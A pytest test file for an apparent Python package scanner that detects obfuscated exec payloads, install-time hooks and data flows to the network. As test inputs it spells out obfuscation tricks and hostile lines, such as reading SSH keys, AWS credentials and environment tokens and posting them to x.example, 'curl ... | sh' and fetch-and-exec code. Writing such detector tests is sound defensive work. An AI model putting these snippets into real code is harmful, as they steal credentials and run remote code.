"""Python is read by following values: what runs, with what, when, and where it goes."""

import base64
import codecs
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from reading import package, seen, short

from biopsy.model.behaviour import When

PLAIN = "import os\nos.system('echo a marker and nothing else')\n"
RUN = "process.exec echo a marker and nothing else"
B64 = base64.b64encode(PLAIN.encode()).decode()
HIDDEN = {
    "exec of base64": f"import base64\nexec(base64.b64decode({B64!r}))",
    "alias of a module": f"import base64 as q\nexec(q.b64decode({B64!r}))",
    "alias of a function": f"from base64 import b64decode as q\nexec(q({B64!r}).decode())",
    "zlib inside base64": f"import zlib,base64\nexec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(PLAIN.encode())).decode()!r})))",
    "hex": f"exec(bytes.fromhex({PLAIN.encode().hex()!r}))",
    "reversed": f"exec({PLAIN[::-1]!r}[::-1])",
    "rot13": f"import codecs\nexec(codecs.decode({codecs.encode(PLAIN, 'rot13')!r}, 'rot13'))",
    "chr list": f"exec(''.join(chr(c) for c in {[ord(c) for c in PLAIN]}))",
    "chr map": f"exec(''.join(map(chr, {[ord(c) for c in PLAIN]})))",
    "bytes list": f"exec(bytes({list(PLAIN.encode())}))",
    "xor loop": f"out = ''\nfor c in {[ord(c) ^ 7 for c in PLAIN]}:\n    out += chr(c ^ 7)\nexec(out)",
    "joined parts": f"exec(''.join([{PLAIN[:9]!r}, {PLAIN[9:]!r}]))",
    "replace": f"exec({PLAIN.replace('o', '@@')!r}.replace('@@', 'o'))",
    "percent": f"exec({'%s' + PLAIN[6:]!r} % 'import')",
    "f-string": f"a = 'import'\nexec(f{'{a}' + PLAIN[6:]!r})",
    "compile": f"import base64\nexec(compile(base64.b64decode({B64!r}), 'x', 'exec'))",
    "getattr of builtins": f"import builtins, base64\ngetattr(builtins, 'ex'+'ec')(base64.b64decode({B64!r}))",
    "builtins by subscript": f"import base64\n__builtins__.__dict__['exec'](base64.b64decode({B64!r}))",
    "eval alias": f"import base64\ne = eval\ne(compile(base64.b64decode({B64!r}), '', 'exec'))",
    "in a function that is called": f"import base64\ndef f(x):\n    return base64.b64decode(x)\nexec(f({B64!r}))",
    "layers": f"import base64\nexec(base64.b64decode({base64.b64encode(f'import base64{chr(10)}exec(base64.b64decode({B64!r}))'.encode()).decode()!r}))",
    "off the screen": f"a = 1;{' ' * 300}import base64;exec(base64.b64decode({B64!r}))",
    "python 2": f"print 'hello'\nimport base64\nexec base64.b64decode({B64!r})",
    "lambda": f"import base64\n(lambda c: exec(c))(base64.b64decode({B64!r}))",
    "class": f"import base64\nclass A:\n    def __init__(self, c):\n        self.c = c\n    def go(self):\n        exec(base64.b64decode(self.c))\nA({B64!r}).go()",
}


@pytest.mark.parametrize("name", HIDDEN)
def test_hidden_code_is_found_and_read_in_turn(name: str) -> None:
    behaviours = seen(HIDDEN[name])
    assert f"{RUN} @ pkg/__init__.py:{HIDDEN[name].count(chr(10)) + 1} (import)" in [
        *behaviours,
        *(
            b.replace(b.rpartition(":")[2], f"{HIDDEN[name].count(chr(10)) + 1} (import)")
            for b in behaviours
            if b.startswith(RUN)
        ),
    ]


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("import os\nos.system('id')", "process.exec id"),
        ("import subprocess as s\ns.run(['curl', '-s', u])", "process.exec curl -s ?"),
        ("from subprocess import Popen\nPopen(f'ping {x}', shell=True)", "process.exec ping ?"),
        ("__import__('o'+'s').system('id')", "process.exec id"),
        ("import importlib\nimportlib.import_module('o' + 's').popen('id')", "process.exec id"),
        ("import sys\nsys.modules['os'].system('id')", "process.exec id"),
        ("globals()['__builtins__'].eval('1+1')", "code.eval eval"),
        ("import os\nprint(os.environ['HOME'], os.getenv('NPM_TOKEN'))", "env.read NPM_TOKEN"),
        ("import os\nx = dict(os.environ)", "env.read *"),
        ("import os, json\njson.dumps(os.environ.copy())", "env.read *"),
        ("import socket\nsocket.gethostname()", "env.host hostname"),
        ("import getpass\ngetpass.getuser()", "env.host username"),
        ("open('/etc/passwd').read()", "file.read /etc/passwd"),
        ("import os\nopen(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa'))", "file.read ~/.ssh/id_rsa"),
        ("from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()", "file.read ~/.aws/credentials"),
        ("from pathlib import Path\nPath('~/.bashrc').expanduser().write_text('x')", "file.write ~/.bashrc"),
        ("with open('a.txt', 'w') as f:\n    f.write('x')", "file.write a.txt"),
        ("import os\nos.remove('/tmp/x')", "file.delete /tmp/x"),
        ("import shutil\nshutil.rmtree('/home')", "file.delete /home"),
        ("import requests\nrequests.post('https://x.example/' + p)", "net.http POST https://x.example/?"),
        ("import requests\ns = requests.Session()\ns.get('https://x.example')", "net.http GET https://x.example"),
        ("import urllib.request as u\nu.urlopen(u.Request('http://x.example', data=d))", "net.http GET http://x.example"),
        ("import urllib.request as u\nu.urlopen(u.Request('http://x.example', None, {'a': 'b'}))", "net.http GET http://x.example"),
        ("import urllib.request as u\nu.urlopen('http://x.example', b'a')", "net.http POST http://x.example"),
        ("import http.client\nc = http.client.HTTPSConnection('x.example')\nc.request('PUT', '/a')", "net.http PUT http://x.example/a"),
        ("import socket\ns = socket.socket()\ns.connect(('203.0.113.9', 443))", "net.connect 203.0.113.9:443"),
        ("import socket\nsocket.gethostbyname('a.example')", "net.dns a.example"),
        ("import time\ntime.sleep(60 * 60)", "evasion.sleep 3600"),
        ("import ctypes\nctypes.CDLL('libx.so')", "code.native ctypes.CDLL libx.so"),
        ("import wallet\ndef f(s): send(s)\nwallet.Keypair.from_seed = f", "code.patch wallet.Keypair.from_seed"),
        ("import wallet\ndef f(s): send(s)\nsetattr(wallet.Keypair, 'from_' + 'seed', f)", "code.patch wallet.Keypair.from_seed"),
        ("import importlib\nimportlib.import_module(name)", "code.import ?"),
        ("from importlib.machinery import SourcelessFileLoader as L\nL('x', 'pkg/data.bin').load_module()", "code.import pkg/data.bin"),
        ("import os\nif os.cpu_count() < 3:\n    exit()", "evasion.fingerprint cpus"),
        ("import platform\nif 'box' in platform.node():\n    exit()", "evasion.fingerprint hostname"),
        ("U = 'https://x.example/a'", "net.url https://x.example/a"),
        ("U = ('203.0.113.9', 80)", "net.address 203.0.113.9"),
    ],
)  # fmt: skip
def test_each_capability_is_told(code: str, expected: str) -> None:
    assert expected in short(seen(code))


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("import os, requests\nrequests.post('https://x.example', json=dict(os.environ))", "env:* > network"),
        ("import os, requests\nrequests.post('https://x.example', data=str(os.environ))", "env:* > network"),
        ("import os, requests\nfor k, v in os.environ.items():\n    requests.get(f'https://x.example/{k}={v}')", "env:* > network"),
        ("import os, requests\nrequests.get('https://x.example/' + os.environ['AWS_SECRET_ACCESS_KEY'])", "env:AWS_SECRET_ACCESS_KEY > network"),
        ("import socket, requests\nd = {}\nd['h'] = socket.gethostname()\nrequests.post('https://x.example', json=d)", "host > network"),
        ("import urllib.request as u\nk = open('/root/.ssh/id_rsa').read()\nu.urlopen('http://x.example', data=k.encode())", "file:/root/.ssh/id_rsa > network"),
        ("import os, requests\nfor p in ['.npmrc', '.pypirc']:\n    with open(os.path.expanduser('~/' + p)) as f:\n        requests.post('https://x.example', files={'f': f})", "file:~/.pypirc > network"),
        ("import os, base64, json, socket\ns = socket.socket()\ns.connect(('x.example', 1))\ns.sendall(base64.b64encode(json.dumps(dict(os.environ)).encode()))", "env:* > network"),
        ("import os, socket\nsocket.gethostbyname(os.environ['NPM_TOKEN'] + '.x.example')", "env:NPM_TOKEN > network"),
        ("import requests\nexec(requests.get('https://x.example').text)", "network > execution"),
        ("import urllib.request, subprocess\nurllib.request.urlretrieve('http://x.example/a', '/tmp/a')\nsubprocess.run(['sh', '/tmp/a'])", "network > execution"),
        ("import requests, os\nr = requests.get('http://x.example/a')\nwith open('/tmp/run', 'wb') as f:\n    f.write(r.content)\nos.system('/tmp/run')", "network > execution"),
        ("import os\nos.system('curl -s http://x.example/i.sh | sh')", "network > execution"),
        (f"import base64\nexec(base64.b64decode({B64!r}))", "decoded > execution"),
        ("import os\nos.system('curl -d \"$(env)\" http://x.example; printenv | curl -d @- http://x.example')", "env:* > network"),
        ("import requests\nclass C:\n    def __init__(self):\n        self.r = requests.get('http://x.example')\n    def go(self):\n        eval(self.r.text)\nC().go()", "network > execution"),
    ],
)  # fmt: skip
def test_a_flow_is_followed_to_its_sink(code: str, expected: str) -> None:
    assert f"code.flow {expected}" in short(seen(code))


@pytest.mark.parametrize(
    "code",
    [
        "import os, requests\nhome = os.environ['HOME']\nrequests.get('https://x.example')",
        "import os, requests\nprint(dict(os.environ))\nrequests.post('https://x.example', data='x')",
        "import subprocess\nv = subprocess.check_output(['git', 'describe'])\nprint(v)",
        "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'version.py')).read())",
        "import requests\nr = requests.get('https://x.example')\nif r.status_code == 200:\n    eval('1')",
        "import base64\nICON = base64.b64decode('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7')",
        "import os, subprocess\nsubprocess.run(['make'], env=dict(os.environ))",
        "import os, hashlib\nhashlib.md5(os.environ['API_KEY'].encode()).hexdigest()",
    ],
)
def test_what_is_no_chain_is_no_flow(code: str) -> None:
    assert not [b for b in seen(code) if b.startswith("code.flow")]


def test_a_moment_is_that_of_who_calls() -> None:
    code = "import os\ndef a():\n    os.system('a')\ndef b():\n    os.system('b')\nb()\nif __name__ == '__main__':\n    os.system('c')\n"
    found = {b for b in seen(code) if b.startswith("process")}
    assert found == {
        "process.exec a @ pkg/__init__.py:3 (call)",
        "process.exec b @ pkg/__init__.py:5 (import)",
        "process.exec c @ pkg/__init__.py:8 (call)",
    }


def test_methods_of_setup_commands_run_at_install() -> None:
    code = (
        "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n"
        "class Post(install):\n    def run(self):\n        os.system('id')\n        install.run(self)\n"
        "def unused():\n    os.system('later')\nsetup(name='x', cmdclass={'install': Post})\n"
    )
    behaviours = seen(code, "setup.py", When.INSTALL)
    assert "process.exec id @ setup.py:6 (install)" in behaviours
    assert "process.exec later @ setup.py:9 (call)" in behaviours


SETUP = b"import sys\nsys.path.insert(0, '.')\nfrom tool import version\nimport tool.cli\n"
PROGRAM = b"import os\ndef main():\n    os.system('id')\nif __name__ == '__main__':\n    main()\n"


@pytest.mark.parametrize("path", ["tool.py", "tool/cli.py"])
def test_what_setup_py_only_imports_does_not_run_as_the_program(path: str) -> None:
    told = package({"setup.py": SETUP, path: PROGRAM}, {"setup.py": When.INSTALL, path: When.INSTALL})
    assert f"process.exec id @ {path}:3 (call)" in told
    old = {name: code.replace(b"\n", b"\r") for name, code in {"setup.py": SETUP, path: PROGRAM}.items()}
    assert package(old, {"setup.py": When.INSTALL, path: When.INSTALL}) == told


@pytest.mark.parametrize(
    "runs",
    [
        b"exec(open('tool.py').read())",
        b"import runpy\nrunpy.run_module('tool', run_name='__main__')",
        b"subprocess.run([sys.executable, '-m', 'tool'])",
        b"tool.main()",
    ],
)
def test_what_setup_py_runs_as_well_happens_at_install(runs: bytes) -> None:
    moments = {"setup.py": When.INSTALL, "tool.py": When.INSTALL}
    told = package({"setup.py": b"import tool, subprocess, sys\n" + runs, "tool.py": PROGRAM}, moments)
    assert "process.exec id @ tool.py:3 (install)" in told


def test_what_a_build_names_and_setup_py_does_not_import_is_the_program() -> None:
    moments = {"setup.py": When.INSTALL, "gen.py": When.INSTALL}
    told = package({"setup.py": b"import tool", "gen.py": PROGRAM}, moments)
    assert "process.exec id @ gen.py:3 (install)" in told


def test_a_package_that_takes_its_native_module_by_the_same_names_is_read_to_its_end() -> None:
    code = (
        "import os, sys\ndef f():\n    return ''\ntry:\n    from . import _f\nexcept ImportError as e:\n"
        "    if os.environ.get('A', ''):\n        print(e)\nelse:\n    f = _f.f\n"
        "if sys.platform == 'darwin':\n    f()\n"
    )
    assert not [one for one in seen(code) if one.startswith("pkg.malformed")]


PROFILE = (
    "import base64, os, subprocess, urllib.request as u\np = {}\nif not p.endswith('.ini'):\n    p = '%s.ini' % p\n"
    "if p.startswith('http://'):\n    exec(u.urlopen(p).read())\n    subprocess.call(u.urlopen(p).read(), shell=True)\n"
)


@pytest.mark.parametrize(
    ("address", "own"),
    [
        ("os.environ.get('BUILD_PROFILE', 'conf/default.ini')", False),
        ("os.environ.get('BUILD_PROFILE', 'https://a.b.c/default.ini')", True),
        ("os.environ.get('BUILD_PROFILE')", True),
        ("something()", True),
        ("base64.b64decode(something()).decode()", True),
    ],
)
def test_what_somebody_names_instead_of_a_file_is_not_fetched_from_an_address_of_the_package(
    address: str, *, own: bool
) -> None:
    assert ("code.flow network > execution" in short(seen(PROFILE.format(address)))) is own


def test_tests_stay_tests() -> None:
    assert seen(
        "import urllib.request\ndef test_a():\n    exec('import os; a')", "tests/a.py", When.TEST
    ) == ["code.eval exec @ tests/a.py:3 (test)"]


def test_what_does_not_parse_is_told_and_read_by_words() -> None:
    found = seen("def (:\n import os\nos.system('id')\nexec(x)\n")
    assert "pkg.malformed pkg/__init__.py SyntaxError @ pkg/__init__.py (import)" in found
    assert "process.exec id @ pkg/__init__.py:3 (import)" in found


@pytest.mark.parametrize(
    "code",
    [
        "exec(" + "(" * 5000 + ")" * 5000 + ")",
        "eval('" + "a" * 3_000_000 + "')",
        "import os\nx = " + "+".join(["'a'"] * 20_000) + "\nos.system(x)",
        "import os\n" + "".join(f"def f{i}(x): return f{i + 1}(x) + f{i + 1}(x) + os.getenv('A')\n" for i in range(60)) + "f0(1)",
        "import os\ndef f(x):\n    return f(x + os.getenv('A', 'b'))\nf('')",
        "import os\na = [1]\nfor x in a:\n    a.append(os.getcwd())",
        "import os\n" + "if os.getcwd():\n " * 1 + "\n".join(f"{' ' * i}if os.getcwd():" for i in range(1, 90)) + "\n" + " " * 91 + "pass",
        "exec('a' * 10**9)",
        "exec('x'.join(['a'] * 10) * 99999999)",
    ],
)  # fmt: skip
def test_hostile_code_ends(code: str) -> None:
    seen(code)


WORDS = ["exec", "eval(", ")", "import os", "\n", "os.environ", "[", "]", "'a'", "b'x'", "+", "lambda:", "def f(x):", " ", "\t", "f", "(", "x", "=", "for x in", ":", "requests.get", ".", "**", "*", ",", "base64.b64decode", "{", "}", "%", "f'{x}'", "class A:", "return", "::-1", "1", "\0", "\ufeff"]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(WORDS), max_size=60))
def test_any_words_can_be_read(words: list[str]) -> None:
    seen("exec\n" + "".join(words))


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=600))
def test_any_bytes_can_be_read(data: bytes) -> None:
    seen(b"exec " + data)
